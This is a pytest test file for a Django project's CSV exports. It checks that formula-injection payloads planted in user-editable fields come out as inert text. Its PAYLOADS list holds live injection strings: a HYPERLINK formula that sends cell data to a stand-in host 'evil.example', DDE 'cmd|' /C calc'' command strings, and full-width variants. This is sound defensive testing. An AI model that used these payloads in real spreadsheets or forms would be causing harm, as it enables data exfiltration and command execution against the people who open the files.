"""CSV formula injection: every CSV the project writes goes through one spreadsheet-safe
writer (topicshare/core/spreadsheet.py). Payloads are planted where people can write them (names,
titles, summaries, reasons) and read back through the real exports: the season review's
download, `season_report --csv`, the topic sheet's download, its admin export and
`export_topics_csv`."""

import ast
import csv
import datetime
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse

from members.ledger.models import LedgerExemption
from members.ledger.services import ledger_exempt
from members.models import User
from members.roles import Role
from sessions.models import Attendance, Season, SessionStatus, Topic, WeeklySession
from sessions.topics.csv_io import topics_import_csv
from tests.factories import TopicFactory, TrackFactory, UserFactory
from topicshare.core.spreadsheet import spreadsheet_cell

pytestmark = pytest.mark.django_db
TZ = datetime.timezone(datetime.timedelta(hours=8))

# What spreadsheet programs run: = + - @, also behind a tab, a carriage return or spaces,
# and the full-width and small forms a Chinese or Japanese IME types.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&B2,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=HYPERLINK(1)",
    "\n=1+1",
    "  =1+1",
    "\u3000=1+1",
    '＝HYPERLINK("http://evil.example/?"&B2,"x")',
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹦1+1",
    "'=already quoted",
]
PAYLOAD_IDS = [f"payload-{number}" for number in range(len(PAYLOADS))]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


# --- The cell rule -------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS, ids=PAYLOAD_IDS)
def test_a_formula_cell_is_written_as_text(payload):
    assert spreadsheet_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "value", [0, 7, -3, 2.5, Decimal("-1.25"), "0", "60", "-3", "+1.5", "1e3", "-0.5"]
)
def test_numbers_stay_numbers(value):
    assert spreadsheet_cell(value) == value


@pytest.mark.parametrize(
    "value", ["王小明", "alice@example.org", "a=b", "1+1=2", "Topic 7", "", "a - b", "50%"]
)
def test_ordinary_text_is_left_alone(value):
    assert spreadsheet_cell(value) == value


# --- The season review: the download and season_report --csv --------------------------------


@pytest.fixture
def season():
    track = TrackFactory(slug="nlp")
    season = Season.objects.create(
        label="Topic 6", order=6, start_date=datetime.date(2026, 8, 1),
        end_date=datetime.date(2026, 10, 31),
    )  # fmt: skip
    topic = TopicFactory(track=track, season=season)
    session = WeeklySession.objects.create(
        topic=topic, track=track, start=datetime.datetime(2026, 8, 1, 20, 30, tzinfo=TZ),
        status=SessionStatus.DONE,
    )  # fmt: skip
    return season, session


def _plant_members(season, session, organiser) -> dict[str, User]:
    """One member per payload, named by it and exempted with it as the reason (written
    straight to the rows, as an old import or another path could have)."""
    people = {}
    for number, payload in enumerate(PAYLOADS):
        user = UserFactory(role=Role.MEMBER, email=f"m{number}@example.org")
        User.objects.filter(pk=user.pk).update(display_name=payload)
        Attendance.objects.create(session=session, user=user, how=Attendance.How.SELF)
        ledger_exempt(user=user, season=season, reason="on leave", by=organiser)
        LedgerExemption.objects.filter(user=user).update(reason=payload)
        people[payload] = user
    return people


def _assert_ledger_inert(rows: list[list[str]], people: dict[str, User]) -> None:
    header, *body = rows
    name, email, reason = 0, 1, len(header) - 1  # the exemption reason comes last
    by_email = {row[email]: row for row in body}
    for payload, user in people.items():
        row = by_email[user.email]
        assert (row[name], row[reason]) == ("'" + payload, "'" + payload)
        # The numbers beside them are still numbers.
        assert row[3:9] == ["0", "0", "0", "1", "1", "100"]


def test_season_review_download_writes_formulas_as_text(client, season, organiser):
    season, session = season
    # The first payload the way an attacker would set it: through the profile form.
    attacker = UserFactory(role=Role.MEMBER, email="attacker@example.org")
    client.force_login(attacker)
    client.post(reverse("profile"), {"display_name": PAYLOADS[0], "wechat_id": ""})
    attacker.refresh_from_db()
    assert attacker.display_name == PAYLOADS[0]
    Attendance.objects.create(session=session, user=attacker, how=Attendance.How.SELF)
    people = _plant_members(season, session, organiser)
    client.force_login(organiser)

    response = client.get(reverse("ledger:season-review-csv", args=[season.pk]))

    assert response.status_code == 200
    rows = _cells(response.content.decode("utf-8"))
    _assert_ledger_inert(rows, people)
    attacker_row = next(row for row in rows if row[1] == "attacker@example.org")
    assert attacker_row[0] == "'" + PAYLOADS[0]


def test_season_report_csv_writes_formulas_as_text(season, organiser, tmp_path):
    season, session = season
    people = _plant_members(season, session, organiser)

    out = io.StringIO()
    call_command("season_report", "Topic 6", "--csv", stdout=out)
    _assert_ledger_inert(_cells(out.getvalue()), people)

    target = tmp_path / "ledger.csv"
    call_command("season_report", "Topic 6", "--csv", "--output", str(target))
    _assert_ledger_inert(_cells(target.read_bytes().decode("utf-8")), people)


# --- The topic sheet: the download, the admin's export and export_topics_csv ----------------


@pytest.fixture
def planted_topics(organiser):
    track = TrackFactory(slug="nlp")
    topics = {}
    for payload in PAYLOADS:
        topic = TopicFactory(track=track, proposer=organiser, capacity=7)
        Topic.objects.filter(pk=topic.pk).update(
            title=payload, sub_theme=payload, summary=payload, reason=payload
        )
        topics[payload] = topic
    return topics


def _assert_sheet_inert(text: str, topics: dict[str, Topic]) -> None:
    header, *body = _cells(text)
    by_id = {row[header.index("id")]: dict(zip(header, row, strict=True)) for row in body}
    for payload, topic in topics.items():
        row = by_id[str(topic.pk)]
        for column in ("title", "sub_theme", "summary", "reason"):
            assert row[column] == "'" + payload
        assert (row["capacity"], row["id"]) == ("7", str(topic.pk))


def test_topic_sheet_download_writes_formulas_as_text(client, organiser, planted_topics):
    client.force_login(organiser)

    response = client.get(reverse("topics:export"))

    assert response.status_code == 200
    _assert_sheet_inert(response.content.decode("utf-8"), planted_topics)


def test_topic_admin_export_writes_formulas_as_text(client, organiser, planted_topics):
    client.force_login(organiser)

    response = client.post(
        reverse("admin:topic_sessions_topic_changelist"),
        {"action": "export_csv", "_selected_action": [t.pk for t in planted_topics.values()]},
    )

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    _assert_sheet_inert(response.content.decode("utf-8"), planted_topics)


def test_export_topics_csv_command_writes_formulas_as_text(planted_topics, tmp_path):
    out, err = io.StringIO(), io.StringIO()
    call_command("export_topics_csv", stdout=out, stderr=err)
    _assert_sheet_inert(out.getvalue(), planted_topics)

    target = tmp_path / "topics.csv"
    call_command("export_topics_csv", str(target), stdout=io.StringIO())
    _assert_sheet_inert(target.read_bytes().decode("utf-8-sig"), planted_topics)


def test_the_neutralised_sheet_imports_back_unchanged(organiser, planted_topics):
    out = io.StringIO()
    call_command("export_topics_csv", stdout=out, stderr=io.StringIO())

    report = topics_import_csv(data=out.getvalue(), by=organiser, dry_run=True)

    assert report.errors == []
    assert (report.created, report.updated, report.unchanged) == (0, 0, len(PAYLOADS))


# --- One writer ----------------------------------------------------------------------------

ROOT = Path(__file__).resolve().parents[2]
APP_DIRS = ["topicshare", "members", "sessions", "library"]
WRITER_MODULE = ROOT / "topicshare" / "core" / "spreadsheet.py"


def test_no_module_writes_csv_but_the_spreadsheet_safe_writer():
    """csv.writer / csv.DictWriter appear only in topicshare/core/spreadsheet.py."""
    writers = {"writer", "DictWriter"}
    offenders = []
    for directory in APP_DIRS:
        for path in (ROOT / directory).rglob("*.py"):
            if path == WRITER_MODULE or "migrations" in path.parts:
                continue
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if (
                    isinstance(node, ast.Attribute)
                    and node.attr in writers
                    and isinstance(node.value, ast.Name)
                    and node.value.id == "csv"
                ) or (
                    isinstance(node, ast.ImportFrom)
                    and node.module == "csv"
                    and writers & {alias.name for alias in node.names}
                ):
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert offenders == []
